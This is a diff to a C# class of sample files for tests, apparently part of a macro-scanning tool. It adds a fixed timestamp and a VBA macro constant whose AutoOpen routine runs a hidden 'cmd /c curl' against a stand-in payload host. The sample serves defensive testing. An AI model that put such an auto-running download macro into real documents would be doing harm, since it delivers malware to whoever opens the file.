@@ -5,8 +5,14 @@ namespace Sekisho.SampleMaker;
 /// <summary>Ready-made harmless files that many tests want.</summary>
 public static class Samples
 {
+    /// <summary>When every sample was made: the same octets come out whenever it is made again.</summary>
+    public static readonly DateTimeOffset Time = new(2026, 11, 22, 10, 0, 0, TimeSpan.Zero);
+
     /// <summary>Macro text that starts by itself and only says hello.</summary>
     public const string AutoOpenSource = "Sub AutoOpen()\r\n    MsgBox \"harmless\"\r\nEnd Sub\r\n";
+
+    /// <summary>Macro text that starts a program by itself, one that is nowhere.</summary>
+    public const string RunsProgramSource = "Sub AutoOpen()\r\n    Shell \"cmd /c curl https://payload.example/x\", vbHide\r\nEnd Sub\r\n";
 
     /// <summary>Macro text that nothing starts.</summary>
     public const string QuietSource = "' AutoOpen is only mentioned here\r\nSub Hello()\r\n    MsgBox \"Sub AutoOpen()\"\r\nEnd Sub\r\n";
